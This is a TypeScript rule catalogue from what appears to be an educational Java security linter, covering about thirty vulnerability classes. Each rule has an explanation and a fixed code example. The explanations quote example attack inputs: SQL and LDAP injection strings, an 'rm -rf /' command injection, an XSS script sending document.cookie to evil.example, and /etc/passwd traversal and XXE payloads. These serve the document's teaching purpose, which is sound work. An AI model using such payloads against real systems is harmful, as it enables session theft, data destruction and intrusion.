// Rule catalogue of the security family: ids, CWEs, lessons, and the learner-facing explanation and fix of each rule.
import type { Finding, Severity } from "../types";

export type RuleId =
  | "SEC-SQL-INJECTION"
  | "SEC-COMMAND-INJECTION"
  | "SEC-XSS"
  | "SEC-PATH-TRAVERSAL"
  | "SEC-DESERIALIZATION"
  | "SEC-HARDCODED-SECRET"
  | "SEC-WEAK-HASH"
  | "SEC-WEAK-PASSWORD-HASH"
  | "SEC-WEAK-CIPHER"
  | "SEC-STATIC-IV"
  | "SEC-INSECURE-RANDOM"
  | "SEC-OPEN-REDIRECT"
  | "SEC-LDAP-INJECTION"
  | "SEC-XPATH-INJECTION"
  | "SEC-XXE"
  | "SEC-TRUST-BOUNDARY"
  | "SEC-INSECURE-COOKIE"
  | "SEC-INSECURE-TLS"
  | "SEC-CODE-INJECTION"
  | "SEC-EL-INJECTION"
  | "SEC-TEMPLATE-INJECTION"
  | "SEC-NOSQL-INJECTION"
  | "SEC-SSRF"
  | "SEC-LOG-INJECTION"
  | "SEC-RESPONSE-SPLITTING"
  | "SEC-REGEX-DOS"
  | "SEC-UNSAFE-REFLECTION"
  | "SEC-CLEARTEXT"
  | "SEC-WORLD-WRITABLE"
  | "SEC-ERROR-EXPOSURE"
  | "SEC-RESOURCE-EXHAUSTION"
  | "SEC-CORS-PERMISSIVE";

export interface RuleInfo {
  cwe: number;
  severity: Severity;
  lesson: string;
  explanation: string;
  fix: string;
}

const L = "/courses/secure-coding-java/";

export const RULES: Record<RuleId, RuleInfo> = {
  "SEC-SQL-INJECTION": {
    cwe: 89,
    severity: "error",
    lesson: L + "sql-injection",
    explanation:
      "The database cannot tell your SQL apart from the text the user typed, so the user can rewrite the query: the value `' OR '1'='1` turns `WHERE name = '…'` into a condition that is always true and returns every row, and `'; DROP TABLE users; --` can destroy data.",
    fix: 'Keep the SQL constant and send user values as bind parameters (`?`), which the driver never interprets as SQL:\n```java\nString sql = "SELECT * FROM users WHERE name = ?";\ntry (PreparedStatement ps = connection.prepareStatement(sql)) {\n    ps.setString(1, name);\n    ResultSet rs = ps.executeQuery();\n}\n// Spring: jdbcTemplate.query("SELECT * FROM users WHERE name = ?", mapper, name);\n```\nFor identifiers that cannot be bound (a sort column), map the input onto an allow-list of known column names.',
  },
  "SEC-COMMAND-INJECTION": {
    cwe: 78,
    severity: "error",
    lesson: L + "command-injection",
    explanation:
      "User input becomes part of an operating-system command. With a shell (`sh -c`, `cmd /c`) the input `8.8.8.8; rm -rf /` runs a second command; even without a shell, `Runtime.exec(String)` splits the text on spaces, so the user chooses extra arguments such as `--output=/etc/passwd`.",
    fix: 'Avoid the shell, use a fixed program with separate arguments, and validate the user part against a strict pattern (or better, use a Java API instead of a process):\n```java\nif (!host.matches("[A-Za-z0-9.-]{1,253}")) {\n    throw new IllegalArgumentException("invalid host");\n}\nProcess p = new ProcessBuilder("ping", "-c", "1", "--", host).start();\n```',
  },
  "SEC-XSS": {
    cwe: 79,
    severity: "error",
    lesson: L + "xss-and-output-encoding",
    explanation:
      "The value is written into an HTML page without encoding, so the browser runs whatever markup it contains: a name like `<script>fetch('https://evil.example/?c='+document.cookie)</script>` steals the session of every user who opens the page (reflected or stored cross-site scripting).",
    fix: 'Encode untrusted data for the HTML context, or let a template engine (Thymeleaf `th:text`) do it, and return JSON rather than hand-built HTML from REST endpoints:\n```java\nimport org.springframework.web.util.HtmlUtils;\n\nout.println("<p>Hello " + HtmlUtils.htmlEscape(name) + "</p>");\n// or with the OWASP Java Encoder: Encode.forHtml(name)\n```',
  },
  "SEC-PATH-TRAVERSAL": {
    cwe: 22,
    severity: "error",
    lesson: L + "path-traversal",
    explanation:
      "The user controls part of a file path, so `../../etc/passwd` (or an absolute path) walks out of the intended folder and reads, overwrites or deletes any file the application can access.",
    fix: 'Resolve the name against a fixed base directory, normalise it, and refuse anything that leaves the base (or keep only the file name part):\n```java\nPath base = Paths.get("/srv/uploads").toAbsolutePath().normalize();\nPath file = base.resolve(fileName).normalize();\nif (!file.startsWith(base)) {\n    throw new SecurityException("invalid file name");\n}\nbyte[] data = Files.readAllBytes(file);\n```',
  },
  "SEC-DESERIALIZATION": {
    cwe: 502,
    severity: "error",
    lesson: L + "deserialization",
    explanation:
      'Deserializing attacker-controlled bytes lets the attacker choose which classes get instantiated. With common libraries on the classpath, a crafted payload (a "gadget chain" such as those produced by ysoserial) runs arbitrary code during `readObject()`, before your code even looks at the result.',
    fix: 'Do not use Java serialization for untrusted data; exchange a plain data format (JSON into a concrete DTO class). If you must, restrict the classes with a filter:\n```java\nObjectInputStream in = new ObjectInputStream(stream);\nin.setObjectInputFilter(ObjectInputFilter.Config.createFilter("com.example.dto.*;java.base/*;!*"));\nOrderDto order = (OrderDto) in.readObject();\n```\nWith Jackson, never enable default typing for `Object`; deserialize into concrete types.',
  },
  "SEC-HARDCODED-SECRET": {
    cwe: 798,
    severity: "warning",
    lesson: L + "secrets-management",
    explanation:
      "A secret written in the source code ends up in Git history, build artifacts and every copy of the repository; anyone who can read the code (or decompile the JAR) can use it, and you cannot rotate it without a new release.",
    fix: 'Read secrets from the environment or a secret manager at runtime, and keep them out of the repository:\n```java\n@Value("${app.db.password}")   // supplied by an environment variable or vault\nprivate String dbPassword;\n\n// plain Java\nString apiKey = System.getenv("PAYMENT_API_KEY");\n```',
  },
  "SEC-WEAK-HASH": {
    cwe: 328,
    severity: "warning",
    lesson: L + "secure-randomness-and-crypto",
    explanation:
      "MD5 and SHA-1 are broken: collisions can be produced cheaply, and for passwords they are so fast that a GPU tries billions of guesses per second, so leaked hashes are cracked within hours.",
    fix: 'Use SHA-256 (or SHA-3) for integrity checks, and a slow, salted password hash (BCrypt, Argon2, PBKDF2) for passwords:\n```java\nMessageDigest sha256 = MessageDigest.getInstance("SHA-256");\n\n// passwords (Spring Security)\nPasswordEncoder encoder = new BCryptPasswordEncoder();\nString hash = encoder.encode(rawPassword);\n```',
  },
  "SEC-WEAK-PASSWORD-HASH": {
    cwe: 916,
    severity: "warning",
    lesson: "/courses/spring-security/password-hashing",
    explanation:
      "Passwords stored in plain text or with a fast, unsalted hash are recovered immediately after a database leak: identical passwords give identical hashes and a GPU tests billions of candidates per second.",
    fix: "Store passwords with an adaptive, salted algorithm:\n```java\n@Bean\nPasswordEncoder passwordEncoder() {\n    return new BCryptPasswordEncoder();   // or Argon2PasswordEncoder / DelegatingPasswordEncoder\n}\n```",
  },
  "SEC-WEAK-CIPHER": {
    cwe: 327,
    severity: "warning",
    lesson: L + "secure-randomness-and-crypto",
    explanation:
      'DES/3DES/RC4/Blowfish are broken or have tiny blocks, and ECB mode (the default when you write just "AES") encrypts identical blocks to identical ciphertext, so patterns in the data stay visible and blocks can be swapped without detection.',
    fix: 'Use AES in an authenticated mode (GCM) with a fresh random IV for every message:\n```java\nCipher cipher = Cipher.getInstance("AES/GCM/NoPadding");\nbyte[] iv = new byte[12];\nnew SecureRandom().nextBytes(iv);\ncipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));\n```',
  },
  "SEC-STATIC-IV": {
    cwe: 329,
    severity: "warning",
    lesson: L + "secure-randomness-and-crypto",
    explanation:
      "A constant (or all-zero) IV makes encryption deterministic: the same plaintext always gives the same ciphertext, and with GCM/CTR reusing an IV with the same key leaks the XOR of the plaintexts and breaks authentication.",
    fix: "Generate a new random IV for each encryption and store it next to the ciphertext:\n```java\nbyte[] iv = new byte[12];\nnew SecureRandom().nextBytes(iv);\ncipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));\n```",
  },
  "SEC-INSECURE-RANDOM": {
    cwe: 330,
    severity: "warning",
    lesson: L + "secure-randomness-and-crypto",
    explanation:
      "`java.util.Random`, `Math.random()` and `ThreadLocalRandom` are predictable: after observing a few outputs an attacker can compute the seed and predict every future token, password-reset code or session id.",
    fix: "Use `SecureRandom` for anything an attacker must not guess:\n```java\nprivate static final SecureRandom RANDOM = new SecureRandom();\n\nbyte[] bytes = new byte[32];\nRANDOM.nextBytes(bytes);\nString token = Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);\n```",
  },
  "SEC-OPEN-REDIRECT": {
    cwe: 601,
    severity: "warning",
    lesson: L + "xss-and-output-encoding",
    explanation:
      "The redirect target comes from the request, so an attacker sends victims a link to your trusted domain such as `/login?next=https://evil.example/login` and your site forwards them to a phishing page.",
    fix: 'Only redirect to relative paths you control, or to a URL chosen from an allow-list:\n```java\nif (next == null || !next.startsWith("/") || next.startsWith("//")) {\n    next = "/home";\n}\nreturn "redirect:" + next;\n```',
  },
  "SEC-LDAP-INJECTION": {
    cwe: 90,
    severity: "error",
    lesson: L + "sql-injection",
    explanation:
      "User input is pasted into an LDAP filter, so characters like `*`, `(` and `)` change the query: the user name `*)(uid=*))(|(uid=*` matches every entry and can bypass a login check.",
    fix: 'Escape values for LDAP filters or use a filter builder that does it for you:\n```java\nString filter = "(uid=" + LdapEncoder.filterEncode(username) + ")";\n// Spring LDAP: LdapQueryBuilder.query().where("uid").is(username)\n```',
  },
  "SEC-XPATH-INJECTION": {
    cwe: 643,
    severity: "error",
    lesson: L + "sql-injection",
    explanation:
      "User input becomes part of an XPath expression, so the value `' or '1'='1` changes the query and returns nodes the user must not see (for example every user's password node).",
    fix: 'Keep the XPath expression constant and pass user values as XPath variables:\n```java\nxpath.setXPathVariableResolver(v -> v.getLocalPart().equals("name") ? name : null);\nString result = xpath.evaluate("/users/user[@name=$name]/email", doc);\n```',
  },
  "SEC-XXE": {
    cwe: 611,
    severity: "warning",
    lesson: L + "deserialization",
    explanation:
      'This XML parser is created with its default settings, which process DOCTYPE declarations and external entities. An uploaded document containing `<!ENTITY x SYSTEM "file:///etc/passwd">` makes the parser read local files or call internal URLs (XML External Entity attack).',
    fix: 'Disable DOCTYPEs (or at least external entities) on the factory before creating the parser:\n```java\nDocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);\ndbf.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);\ndbf.setXIncludeAware(false);\ndbf.setExpandEntityReferences(false);\n```',
  },
  "SEC-TRUST-BOUNDARY": {
    cwe: 501,
    severity: "warning",
    lesson: L + "xss-and-output-encoding",
    explanation:
      "Unvalidated request data is stored in the HTTP session, where other code treats it as trusted server-side state. An attacker can plant values (a role, a user id, an HTML snippet) that later checks or pages rely on.",
    fix: 'Validate and convert the value before it crosses into the session, and store only server-derived data there:\n```java\nif (!ALLOWED_THEMES.contains(theme)) {\n    throw new IllegalArgumentException("unknown theme");\n}\nsession.setAttribute("theme", theme);\n```',
  },
  "SEC-INSECURE-COOKIE": {
    cwe: 614,
    severity: "warning",
    lesson: "/courses/spring-security/csrf",
    explanation:
      "Without `Secure` the browser also sends the cookie over plain HTTP, where anyone on the network can read it; without `HttpOnly` any injected script can read it through `document.cookie`. Session and authentication cookies need both.",
    fix: 'Set both flags (and a SameSite policy) on every cookie that carries state:\n```java\nCookie cookie = new Cookie("session", value);\ncookie.setSecure(true);\ncookie.setHttpOnly(true);\ncookie.setPath("/");\nresponse.addCookie(cookie);\n\n// Spring: ResponseCookie.from("session", value).secure(true).httpOnly(true).sameSite("Lax").build();\n```',
  },
  "SEC-INSECURE-TLS": {
    cwe: 295,
    severity: "warning",
    lesson: L + "secure-randomness-and-crypto",
    explanation:
      "This code accepts every certificate or host name, which switches off the protection of HTTPS: anyone between you and the server (public Wi-Fi, a proxy) can impersonate the server and read or change the traffic.",
    fix: "Use the default trust manager and host-name verification; to trust a private CA, load it into a trust store instead of disabling checks:\n```java\nSSLContext ctx = SSLContext.getDefault();\n// or: KeyStore trustStore = ...; TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());\n// tmf.init(trustStore); ctx.init(null, tmf.getTrustManagers(), new SecureRandom());\n```",
  },
  "SEC-CODE-INJECTION": {
    cwe: 94,
    severity: "error",
    lesson: L + "command-injection",
    explanation:
      "The text is run as a program by a script engine or compiler inside your JVM (JavaScript, Groovy, MVEL...). Whoever controls it runs any code with the application's rights: `java.lang.Runtime.getRuntime().exec('rm -rf /')` is one line of Groovy or JavaScript.",
    fix: 'Never evaluate text that a user wrote. Keep the script fixed and pass the user data as a variable (binding), or replace the script with ordinary Java code:\n```java\nBindings vars = engine.createBindings();\nvars.put("amount", amount);           // data, not code\nObject result = engine.eval(FIXED_SCRIPT, vars);\n```',
  },
  "SEC-EL-INJECTION": {
    cwe: 917,
    severity: "error",
    lesson: L + "command-injection",
    explanation:
      "An expression language (SpEL, Jakarta EL, OGNL) can call any method: the expression `T(java.lang.Runtime).getRuntime().exec(\'...\')` runs a command. Parsing a user-supplied string as an expression hands the attacker that power.",
    fix: 'Keep the expression a constant and give the user value to it as data, evaluated in a restricted context:\n```java\nExpression exp = parser.parseExpression("total > limit");   // constant\nEvaluationContext ctx = SimpleEvaluationContext.forReadOnlyDataBinding().build();\nBoolean over = exp.getValue(ctx, order, Boolean.class);\n```',
  },
  "SEC-TEMPLATE-INJECTION": {
    cwe: 1336,
    severity: "error",
    lesson: L + "command-injection",
    explanation:
      "The user\'s text is compiled as the template itself (Velocity, FreeMarker, Thymeleaf, Pebble...). Template languages can call methods of the objects they see, so a crafted template reads secrets or runs code on the server (server-side template injection).",
    fix: 'Load templates only from your own files and pass user input as model variables:\n```java\nTemplate t = cfg.getTemplate("welcome.ftl");   // fixed template\nt.process(Map.of("name", name), out);          // user data as a value\n```',
  },
  "SEC-NOSQL-INJECTION": {
    cwe: 943,
    severity: "error",
    lesson: L + "sql-injection",
    explanation:
      "The user\'s text becomes part of a MongoDB query document or a `$where` JavaScript expression, so it can change the query: `{$ne: null}` matches every document and `$where` runs JavaScript on the database server.",
    fix: 'Build queries with the driver\'s builders and pass user values as values, never as JSON or JavaScript text:\n```java\ncollection.find(Filters.eq("email", email));\n// Spring Data: mongoTemplate.find(Query.query(Criteria.where("email").is(email)), User.class);\n```',
  },
  "SEC-SSRF": {
    cwe: 918,
    severity: "error",
    lesson: "/courses/spring-rest-apis/rest-client",
    explanation:
      "The server requests a URL the user chose (server-side request forgery). The attacker makes your server call internal services it can reach and they cannot: cloud metadata (`http://169.254.169.254/`), admin ports, databases on the private network.",
    fix: 'Keep the scheme and host fixed (configuration) and let the user choose only a validated path segment or an id; if hosts must vary, check them against an allow-list:\n```java\nURI uri = URI.create(url);\nif (!"https".equals(uri.getScheme()) || !ALLOWED_HOSTS.contains(uri.getHost())) {\n    throw new IllegalArgumentException("host not allowed");\n}\n```',
  },
  "SEC-LOG-INJECTION": {
    cwe: 117,
    severity: "warning",
    lesson: L + "xss-and-output-encoding",
    explanation:
      "Untrusted text goes into the log as it is. A value containing a line break forges whole log entries (`\\nINFO login succeeded for admin`), misleading whoever reads the logs or the tools that parse them.",
    fix: 'Remove or encode line breaks before logging user input (or use a log encoder that does it):\n```java\nString safe = username.replaceAll("[\\\\r\\\\n]", "_");\nlog.info("Login failed for {}", safe);\n```',
  },
  "SEC-RESPONSE-SPLITTING": {
    cwe: 113,
    severity: "warning",
    lesson: L + "xss-and-output-encoding",
    explanation:
      "Untrusted text is written into an HTTP response header. With CR/LF characters the value ends the header block and adds headers or a body of the attacker\'s choosing (HTTP response splitting, cache poisoning).",
    fix: 'Strip CR and LF (or URL-encode the value) before putting it in a header:\n```java\nString safe = fileName.replaceAll("[\\\\r\\\\n]", "");\nresponse.setHeader("Content-Disposition", "attachment; filename=\\"" + safe + "\\"");\n```',
  },
  "SEC-REGEX-DOS": {
    cwe: 1333,
    severity: "warning",
    lesson: "/courses/spring-rest-apis/validation",
    explanation:
      "The user\'s text is compiled as a regular expression. A pattern such as `(a+)+$` makes the matcher backtrack exponentially and keeps a CPU busy for minutes (ReDoS); the user can also match far more than intended.",
    fix: "Treat user text as literal text, not as a pattern:\n```java\nPattern p = Pattern.compile(Pattern.quote(term), Pattern.CASE_INSENSITIVE);\n// or simply: text.contains(term)\n```",
  },
  "SEC-UNSAFE-REFLECTION": {
    cwe: 470,
    severity: "error",
    lesson: L + "command-injection",
    explanation:
      "The user chooses which class is loaded or which method is called through reflection. They can instantiate classes you never meant to expose (with dangerous constructors or static initialisers) or call any public method.",
    fix: 'Map the user\'s choice onto an allow-list of known implementations:\n```java\nprivate static final Map<String, Supplier<Exporter>> EXPORTERS =\n        Map.of("csv", CsvExporter::new, "pdf", PdfExporter::new);\nExporter e = Optional.ofNullable(EXPORTERS.get(format)).orElseThrow().get();\n```',
  },
  "SEC-CLEARTEXT": {
    cwe: 319,
    severity: "warning",
    lesson: L + "secure-randomness-and-crypto",
    explanation:
      "Credentials or personal data travel over plain HTTP, a plain socket, FTP or SMTP without TLS. Anyone on the network path (Wi-Fi, a proxy, a compromised router) can read and change them.",
    fix: "Use TLS: `https://` URLs, `SSLSocketFactory`/`SSLServerSocketFactory`, FTPS, SMTP with STARTTLS:\n```java\nSocket s = SSLSocketFactory.getDefault().createSocket(host, 443);\n```",
  },
  "SEC-WORLD-WRITABLE": {
    cwe: 732,
    severity: "warning",
    lesson: L + "path-traversal",
    explanation:
      "The file is made readable or writable by every user of the machine. Another local account or compromised service can read the data or replace it (a script, a configuration, a key).",
    fix: 'Give permissions to the owner only:\n```java\nFiles.setPosixFilePermissions(path, PosixFilePermissions.fromString("rw-------"));\nfile.setWritable(true, true); // owner only\n```',
  },
  "SEC-ERROR-EXPOSURE": {
    cwe: 209,
    severity: "warning",
    lesson: "/courses/spring-rest-apis/controller-advice",
    explanation:
      "The exception\'s stack trace or message is sent to the client. It reveals class names, library versions, SQL, file paths and sometimes data, which helps an attacker plan the next step.",
    fix: 'Log the exception on the server and send a generic message (with an id the user can quote):\n```java\nlog.error("export failed", e);\nreturn ResponseEntity.status(500).body(Map.of("error", "internal error"));\n```',
  },
  "SEC-RESOURCE-EXHAUSTION": {
    cwe: 400,
    severity: "warning",
    lesson: "/courses/spring-rest-apis/validation",
    explanation:
      "A number the user chose decides how much memory is allocated or how many times a loop runs. A huge value exhausts memory or CPU and takes the service down for everyone.",
    fix: "Cap the value before using it:\n```java\nint size = Math.min(Integer.parseInt(len), MAX_SIZE);\nbyte[] buffer = new byte[size];\n```",
  },
  "SEC-CORS-PERMISSIVE": {
    cwe: 942,
    severity: "error",
    lesson: "/courses/spring-security/cors",
    explanation:
      "The browser lets another website read this API's responses when `Access-Control-Allow-Origin` names that website. Repeating whatever `Origin` the request sent (or `*` with credentials) names every website, so a page the user happens to visit can call the API with the user's cookies and read the answers.",
    fix: 'Answer only the front-ends you know:\n```java\nprivate static final Set<String> ALLOWED = Set.of("https://app.example.com");\n\nString origin = request.getHeader("Origin");\nif (origin != null && ALLOWED.contains(origin)) {\n    response.setHeader("Access-Control-Allow-Origin", origin);\n    response.setHeader("Vary", "Origin");\n}\n```',
  },
};

export interface RawFinding {
  rule: RuleId;
  /** Line/column in unit.text. */
  line: number;
  column: number;
  endLine?: number;
  message: string;
  severity?: Severity;
  cwe?: number;
  explanation?: string;
  fix?: string;
}

export function toFinding(r: RawFinding, userLine: (l: number) => number | null): Finding | null {
  const info = RULES[r.rule];
  const line = userLine(r.line);
  if (line == null) return null;
  const f: Finding = {
    rule: r.rule,
    category: "security",
    severity: r.severity ?? info.severity,
    line,
    column: r.column,
    cwe: r.cwe ?? info.cwe,
    message: r.message,
    explanation: r.explanation ?? info.explanation,
    fix: r.fix ?? info.fix,
    lesson: info.lesson,
  };
  if (r.endLine && r.endLine > r.line) {
    const el = userLine(r.endLine);
    if (el != null && el >= line) f.endLine = el;
  }
  return f;
}
